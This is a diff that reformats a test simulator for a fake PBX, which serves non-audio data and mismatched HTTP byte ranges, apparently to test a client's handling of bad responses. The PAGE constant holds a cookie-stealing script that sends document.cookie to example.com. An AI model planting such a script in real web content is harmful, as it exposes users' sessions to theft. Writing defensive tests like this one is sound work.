@@ -1,4 +1,7 @@
-"""A PBX that sends other data in place of a sound, also as a part of a file, and other parts than those requested."""
+"""A PBX that sends other data in place of a sound.
+
+It also sends such data as a part of a file, and other parts than those requested.
+"""
 
 from collections.abc import Iterator
 from dataclasses import dataclass
@@ -7,7 +10,10 @@ from typing import override
 
 from tests.simulator.sounds import Wav
 
-PAGE = b"<!DOCTYPE html><html><script>document.location = 'http://example.com/' + document.cookie</script></html>\n"
+PAGE = (
+    b"<!DOCTYPE html><html><script>document.location = 'http://example.com/' + "
+    b"document.cookie</script></html>\n"
+)
 
 
 @dataclass(frozen=True, slots=True)
@@ -20,17 +26,27 @@ class NotASound(Wav):
     def read(self, start: int, stop: int) -> Iterator[bytes]:
         into = start % len(self.text)
         yield bytes(
-            byte for byte, _ in zip(chain(self.text[into:], chain.from_iterable(repeat(self.text))), range(stop - start), strict=False)
+            byte
+            for byte, _ in zip(
+                chain(self.text[into:], chain.from_iterable(repeat(self.text))),
+                range(stop - start),
+                strict=False,
+            )
         )
 
 
 TEXTS = {
     "a page": PAGE,
-    "an object": b'{"status": "Success", "token": "e10adc3949ba59abbe56e057f20f883e"}\r\n',
-    "a sentence": "The file you want does not exist on this server, für niemanden.\n".encode(),
+    "an object": (
+        b'{"status": "Success", "token": "e10adc3949ba59abbe56e057f20f883e"}\r\n'
+    ),
+    "a sentence": (
+        "The file you want does not exist on this server, für niemanden.\n"
+    ).encode(),
 }
 
-# The requested range (None: the whole file), and the `Content-Range` that comes with HTTP 206.
+# The requested range (None: the whole file), and the `Content-Range` that comes with
+# HTTP 206.
 PARTS_THAT_LIE = [
     (None, "bytes 0-99/204"),
     ("bytes=0-99", None),
